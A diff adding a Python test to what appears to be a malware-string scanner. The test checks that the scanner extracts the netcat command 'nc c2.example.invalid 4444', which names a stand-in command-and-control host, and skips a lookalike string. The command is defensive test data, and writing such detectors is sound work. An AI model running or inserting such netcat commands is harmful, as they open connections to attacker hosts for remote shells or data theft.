@@ -39,3 +39,8 @@ def test_a_call_that_opens_files_is_found_whatever_bytes_stand_before_it(before:
     with tempfile.TemporaryFile(buffering=0) as file:
         file.write(before + b"\0LoadLibraryExW\0c\xffr\xffeateFileW")
         assert {"LoadLibraryExW"} <= set(file_names(View(file.fileno()), []).calls)
+
+
+def test_netcat_is_told_where_a_port_stands_behind_the_host() -> None:
+    assert _found(b"\0nc c2.example.invalid 4444\0").texts == ("nc c2.example.invalid 4444",)
+    assert _found(b"\0nc info.H\0").texts == ()
